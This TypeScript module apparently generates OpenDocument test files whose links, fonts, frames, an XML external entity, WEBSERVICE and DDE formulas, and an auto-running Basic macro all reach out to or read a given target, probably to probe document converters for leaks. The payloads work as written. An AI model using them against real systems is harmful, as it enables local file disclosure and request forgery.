/** ODT, ODS, ODP: everything with an xlink:href, formulas, and Basic that runs when the document opens. */
import { documents } from '../documents.js';
import { editPackage, type PartChange } from '../edit-package.js';
import type { Target } from './index.js';

const NAMES =
  'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ' +
  'xmlns:dom="http://www.w3.org/2001/xml-events" ' +
  'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"';

type Kind = 'odt' | 'ods' | 'odp';

/** What every kind can do; `wrap` puts a frame where frames may stand. */
function common(kind: Kind, target: Target, wrap: (frame: string) => string): Record<string, Uint8Array> {
  const framed = (content: string) => document(kind, wrap(frame(content)));
  return {
    'linked image': framed(`<draw:image ${href(target('linked image', 'png'))}/>`),
    'object link': framed(`<draw:object ${href(target('object link', 'ods'))}/>`),
    'floating frame': framed(`<draw:floating-frame ${href(target('floating frame', 'html'))}/>`),
    plugin: framed(`<draw:plugin ${href(target('plugin', 'wav'))} draw:mime-type="application/vnd.sun.star.media"/>`),
    'linked font': withFont(kind, target('linked font', 'ttf')),
    'macro when opened': withMacro(kind, target('macro when opened', 'txt')),
    'external entity': editPackage(documents[kind]().bytes, {
      'content.xml': xml =>
        xml
          .replace(
            /<\?xml[^>]*\?>/,
            found => `${found}<!DOCTYPE x [<!ENTITY x SYSTEM "${target('external entity', 'txt')}">]>`,
          )
          .replace('</text:p>', '&x;</text:p>'),
    }),
  };
}

export function textVectors(target: Target): Record<string, Uint8Array> {
  const section = (source: string) =>
    document('odt', `<text:section text:name="S">${source}<text:p>old</text:p></text:section>`);
  return {
    ...common('odt', target, content => `<text:p>${content}</text:p>`),
    'section of a document': section(`<text:section-source ${href(target('section of a document', 'odt'))}/>`),
    'section of a text': section(
      `<text:section-source ${href(target('section of a text', 'txt'))} text:filter-name="Text"/>`,
    ),
    'DDE section': section(
      `<office:dde-source office:dde-application="soffice" office:dde-topic="${target('DDE section', 'odt')}" office:dde-item="x" office:automatic-update="true"/>`,
    ),
    'index marks': document(
      'odt',
      `<text:alphabetical-index text:name="I"><text:alphabetical-index-source/><text:alphabetical-index-auto-mark-file ${href(target('index marks', 'txt'))}/><text:index-body><text:p>old</text:p></text:index-body></text:alphabetical-index>`,
    ),
  };
}

export function spreadsheetVectors(target: Target): Record<string, Uint8Array> {
  const formula = (text: string) =>
    editPackage(documents.ods().bytes, {
      'content.xml': xml =>
        named(xml).replace(
          '</table:table-row>',
          `</table:table-row><table:table-row><table:table-cell table:formula="${text.replaceAll('"', '&quot;')}"/></table:table-row>`,
        ),
    });
  const inTable = (content: string) =>
    editPackage(documents.ods().bytes, {
      'content.xml': xml => named(xml).replace('<table:table-row>', `${content}<table:table-row>`),
    });
  return {
    ...common(
      'ods',
      target,
      content =>
        `<table:table table:name="F"><table:shapes>${content}</table:shapes><table:table-row><table:table-cell/></table:table-row></table:table>`,
    ),
    WEBSERVICE: formula(`of:=COM.MICROSOFT.WEBSERVICE("${target('WEBSERVICE', 'txt')}")`),
    'external reference': formula(`of:=['${target('external reference', 'ods')}'#$One.A1]`),
    DDE: formula(`of:=DDE("soffice";"${target('DDE', 'ods')}";"One.A1")`),
    INDIRECT: formula(`of:=INDIRECT("'${target('INDIRECT', 'ods')}'#$One.A1")`),
    'table source': inTable(
      `<table:table-source ${href(target('table source', 'ods'))} table:table-name="One" table:mode="copy-all"/>`,
    ),
    'range source': editPackage(documents.ods().bytes, {
      'content.xml': xml =>
        named(xml).replace(
          '<table:table-cell ',
          `<table:table-cell office:value-type="string"><table:cell-range-source table:name="One.A1:A2" ${href(target('range source', 'html'))} table:filter-name="HTML (StarCalc)" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell><table:table-cell `,
        ),
    }),
  };
}

export function drawingVectors(target: Target): Record<string, Uint8Array> {
  const wrap = (content: string) => content;
  const sound = `<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="sound"><presentation:sound ${href(target('sound', 'wav'))}/></presentation:event-listener></office:event-listeners>`;
  return {
    ...common('odp', target, wrap),
    sound: document('odp', frame(`<draw:text-box><text:p>x</text:p></draw:text-box>${sound}`)),
    'linked page background': editPackage(documents.odp().bytes, {
      'styles.xml': xml =>
        named(xml)
          .replace(
            '<office:automatic-styles>',
            `<office:styles><draw:fill-image draw:name="B" ${href(target('linked page background', 'png'))}/></office:styles><office:automatic-styles><style:style style:name="dp" style:family="drawing-page"><style:drawing-page-properties draw:fill="bitmap" draw:fill-image-name="B"/></style:style>`,
          )
          .replace('<style:master-page ', '<style:master-page draw:style-name="dp" '),
    }),
  };
}

const href = (url: string) => `xlink:type="simple" xlink:href="${url}" xlink:show="embed" xlink:actuate="onLoad"`;

function frame(content: string): string {
  return `<draw:frame text:anchor-type="paragraph" svg:x="1cm" svg:y="1cm" svg:width="4cm" svg:height="4cm">${content}</draw:frame>`;
}

const ENDS: Readonly<Record<Kind, string>> = {
  odt: '</office:text>',
  ods: '</office:spreadsheet>',
  odp: '</draw:page>',
};

function document(kind: Kind, content: string): Uint8Array {
  return editPackage(documents[kind]().bytes, {
    'content.xml': xml => named(xml).replace(ENDS[kind], `${content}${ENDS[kind]}`),
  });
}

function named(xml: string): string {
  return xml.replace(/<office:document-(?:content|styles) /, found => `${found}${NAMES} `);
}

function withFont(kind: Kind, url: string): Uint8Array {
  const font = `<office:font-face-decls><style:font-face style:name="Far" svg:font-family="Far"><svg:font-face-src><svg:font-face-uri ${href(url)}><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`;
  return editPackage(documents[kind]().bytes, {
    'content.xml': xml => named(xml).replace('<office:body>', `${font}<office:body>`),
  });
}

/** Basic that reads the target into the document as soon as it is open. */
function withMacro(kind: Kind, url: string): Uint8Array {
  const code = `Sub Main
  Dim access, stream, text
  access = CreateUnoService("com.sun.star.ucb.SimpleFileAccess")
  stream = CreateUnoService("com.sun.star.io.TextInputStream")
  stream.setInputStream(access.openFileRead("${url}"))
  text = stream.readLine()
  ThisComponent.getDocumentProperties().Title = text
End Sub`;
  const events = ['dom:load', 'office:start-app', 'office:load-finished', 'office:view-created']
    .map(
      name =>
        `<script:event-listener script:language="ooo:script" script:event-name="${name}" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>`,
    )
    .join('');
  const library = 'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"';
  const parts: Record<string, PartChange> = {
    'content.xml': xml =>
      named(xml).replace(
        '<office:body>',
        `<office:scripts><office:event-listeners>${events}</office:event-listeners></office:scripts><office:body>`,
      ),
    'Basic/script-lc.xml': `<library:libraries ${library}><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml':
      '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>',
    'Basic/Standard/Module1.xml': `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${code.replaceAll('"', '&quot;')}</script:module>`,
    'META-INF/manifest.xml': xml =>
      xml.replace(
        '</m:manifest>',
        `${['Basic/script-lc.xml', 'Basic/Standard/script-lb.xml', 'Basic/Standard/Module1.xml'].map(path => `<m:file-entry m:full-path="${path}" m:media-type="text/xml"/>`).join('')}</m:manifest>`,
      ),
  };
  return editPackage(documents[kind]().bytes, parts);
}
